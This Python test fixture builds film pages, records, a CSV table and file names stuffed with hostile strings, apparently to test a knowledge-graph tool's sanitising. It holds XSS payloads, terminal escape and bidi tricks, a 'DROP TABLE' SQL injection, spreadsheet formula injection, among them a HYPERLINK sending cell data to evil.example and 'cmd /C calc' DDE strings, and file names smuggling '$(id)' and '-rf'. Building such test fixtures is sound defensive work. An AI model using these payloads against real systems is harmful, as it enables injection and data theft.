"""Documents in which everything that becomes a name, a quote or an address is hostile."""

from __future__ import annotations

import csv
import io
import json
import os
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

from retold.claims import Claim, Evidence, Literal, LocalEntity, Status
from retold.document import Block, Document, Role, Source, Span, make_document
from retold.extraction.base import Extraction
from retold.identifiers import local_id
from retold.store import Store

__all__ = ["PLAIN_NAME", "STRINGS", "build_raw", "run_of_names", "write_folder"]

#: What each string attacks, and the string.
STRINGS: Final = {
    "script": "</script><script>window.hit=1</script>",
    "image": "<img src=x onerror=window.hit=1>",
    "comment": "--><svg/onload=window.hit=1><!-- ]]> <![CDATA[",
    "title": "Owned \x1b]0;owned\x07 Window",
    "clear": "Cleared \x1b[2J\x1b[1;1H Screen",
    "eight bit": "Eight \x9b2J\x9d0;owned\x9c Bit",
    "override": "Right \u202egnirts\u202c to \u2067Left\u2069 \u200fMark",
    "invisible": "Zero\u200b \u200dWidth\ufeff \u2060Joined\U000e0041",
    "quotes": 'Quote " \' ` \\ \\" \\n \\u0000',
    "sql": "'); DROP TABLE claims; --",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "sum": "+SUM(1+1)*cmd|' /C calc'!A0",
    "at": "@SUM(1+1) Minus",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "format": "%s %n %x {0} {name!r}",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% raw %} <%= 7 %>",
    "nul": "Nul \x00 Byte \x08\x08\x08 Back",
    "surrogate": "Half \ud800 and \udfff Pair",
    "noncharacter": "None \uffff and \ufffe and \U0001ffff",
    "breaks": "Broken \r\n Lines \u2028 and \u2029 and \x85 and \x0b Tabs\t",
    "iri": "> <http://evil.example/> . } ; <x",
    "markup": "[bold red]Rich[/bold red] [link=http://evil.example]x[/] :smile:",
    "address": "Press [here](javascript:window.hit=1) Now",
    "entity": "Twice &#x202e;escaped &lt;script&gt;window.hit=1&lt;/script&gt; &amp;amp; &#27;[2J",
    "combining": "Zalgo " + "e" + "\u0301\u0317" * 60,
}
#: A name without malice, which queries ask for.
PLAIN_NAME: Final = "The Glass Orchard"


def run_of_names() -> list[str]:
    """Return the hostile strings in a fixed order."""
    return list(STRINGS.values())


def movie(name: str, other: str) -> dict[str, Any]:
    """Return the structured data of a film in which all is called `name`, and its novel `other`."""
    return {
        "@context": "https://schema.org",
        "@type": "Movie",
        "@id": name,
        "name": name,
        "datePublished": "2021-03-05",
        "genre": name,
        "director": {"@type": "Person", "name": f"Ada {name}"},
        "actor": [
            {
                "@type": "PerformanceRole",
                "actor": {"@type": "Person", "name": f"Bo {name}"},
                "characterName": f"Count {name}",
            },
            {"@type": "Person", "name": name},
        ],
        "productionCompany": {"@type": "Organization", "name": name},
        "award": name,
        "isBasedOn": {
            "@type": "Book",
            "name": other,
            "author": {"@type": "Person", "name": f"Cy {other}"},
            "translator": {"@type": "Person", "name": name},
        },
        "review": {
            "@type": "Review",
            "author": {"@type": "Person", "name": f"Di {name}"},
            "publisher": {"@type": "Organization", "name": name},
            "reviewRating": {"@type": "Rating", "ratingValue": "4", "bestRating": "5"},
        },
    }


def page(name: str, other: str) -> bytes:
    """Return an HTML page about a film, with hostile text wherever a page can have any."""
    data = json.dumps(movie(name, other)).replace("</", "<\\/")
    shown = "".join(f"&#{ord(c)};" if c.isprintable() or c == "\x1b" else "&#x202e;" for c in name)
    text = f"""<!doctype html><html lang="en"><head>
    <title>{shown}</title>
    <meta property="og:site_name" content="{shown}">
    <meta property="og:title" content="{shown}">
    <meta name="author" content="{shown}">
    <script type="application/ld+json">{data}</script>
    </head><body><article><h1>{shown}</h1><p class="byline">By {shown}</p>
    <p>{shown} is a film based on the novel {PLAIN_NAME} by Ines Faber, and it is directed by Mara Quill.</p>
    <p>Bo Lind plays {shown} in the film, and the film is everything that a reader of the novel hopes for.</p>
    </article></body></html>"""
    return text.encode("utf-8", "surrogatepass")


def record(number: int, name: str) -> dict[str, str]:
    """Return a record of a collection with a hostile title, author, site and address."""
    return {
        "uri": f"javascript:window.hit={number}//{name}",
        "title": name,
        "author": f"Tom {name}",
        "site": name,
        "published": "2021-03-06",
        "text": f"“{name}” (2021) is a film based on the novel “{PLAIN_NAME}” by Ines Faber. "
        f"The film {name} was directed by Mara Quill. Rating: 4/5\n",
    }


def write_folder(folder: Path) -> None:
    """Write the documents; their names are hostile too, as far as the file system lets them."""
    names = run_of_names()
    for number, name in enumerate(names):
        other = PLAIN_NAME if number % 2 else names[number - 1]
        (folder / f"page {number:02}.html").write_bytes(page(name, other))
    lines = [json.dumps(record(number, name)) for number, name in enumerate(names)]
    (folder / "records.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    rows = io.StringIO()
    table = csv.DictWriter(rows, fieldnames=list(record(0, "")))
    table.writeheader()
    table.writerows(record(100 + n, name.replace("\0", "")) for n, name in enumerate(names))
    (folder / "table.csv").write_text(rows.getvalue(), encoding="utf-8", errors="replace", newline="")
    texts = {
        b"-rf --graph=x.txt": f"# {names[0]}\n",
        b"line\nbreak.md": f"# {names[3]}\n",
        b"quote'\"`$(id);&.txt": f"{names[4]}\n",
        b"<img src=x onerror=window.hit=1>.txt": f"{names[8]}\n",
        b"escape\x1b]0;owned\x07.txt": f"{names[2]}\n",
        "right \u202etxt.exe.md".encode(): f"# {names[6]}\n",
        b"half \xff\xfe byte.txt": f"{names[9]}\n",
        b"=SUM(1).txt": "=SUM(1)\n",
        b"%s {0} [x] *.txt": "%s\n",
    }
    for number, (file, head) in enumerate(texts.items()):
        body = (
            f"{head}\nBy Tom \x1b[31mAshe\u202e\n\nThe film \u201cFile {number} \x1b[2J\u202e\u201d (2020) "
            f"is based on the novel \u201c{PLAIN_NAME}\u201d by Ines Faber. It was directed by Mara Quill.\n"
        )
        (folder / os.fsdecode(file)).write_bytes(body.encode())


def build_raw(path: Path) -> None:
    """Make a graph whose names and texts are hostile as they stand, as if no reader had cleaned them."""
    with Store.open(path) as store:
        for number, name in enumerate(run_of_names()):
            store.add(*_raw(number, name.replace("\ud800", "").replace("\udfff", "")), extractors=("test/1",))


def _raw(number: int, name: str) -> tuple[Document, Extraction]:
    text = f"{name}\n{name} stars {name}.\n"
    source = Source(uri=f"{number:02} {name}", title=name, site=name, author=name, published="2021-03-05")
    blocks = [Block(span=Span(start=0, end=len(name)), role=Role.TITLE)]
    document = make_document(text, blocks=blocks, source=source)
    span = Span(start=len(name) + 1, end=len(text) - 1)
    evidence = Evidence(
        document=document.id, span=span, quote=document.words(span), extractor="test/1", confidence=0.9
    )
    kinds = ("Film", "Novel", "Person", "Character", "Organization", "Award", "Place")
    film, novel, person, character, company, award, place = (
        LocalEntity(id=local_id(document.id, n), kind=kind, names=(name, f"{kind} {name}"))
        for n, kind in enumerate(kinds, start=1)
    )
    common = LocalEntity(id=local_id(document.id, 9), kind="Novel", names=(PLAIN_NAME,))
    statements: list[tuple[LocalEntity, str, LocalEntity | str, LocalEntity | None]] = [
        (film, "based_on", novel, None),
        (novel, "based_on", common, None),
        (film, "director", person, None),
        (film, "actor", person, None),
        (film, "character", character, None),
        (character, "portrayed_by", person, film),
        (film, "broadcaster", company, None),
        (film, "set_in", place, None),
        (film, "reviewed_by", person, None),
        (film, "rating", name, None),
        (film, "genre", name, None),
        (film, "award", award, None),
        (film, "released", "2021-03-05", None),
        (film, "released", "1999", None),
    ]
    claims = [
        Claim(
            subject=subject,
            relation=relation,
            object=Literal(value=target) if isinstance(target, str) else target,
            within=within,
            qualifiers={"outcome": name} if relation == "award" else {},
            status=Status.STATED,
            evidence=(evidence,),
        )
        for subject, relation, target, within in statements
    ]
    rumour = replace(claims[2], status=Status.RUMOURED)
    return document, Extraction(mentions=(), claims=(*claims, rumour))
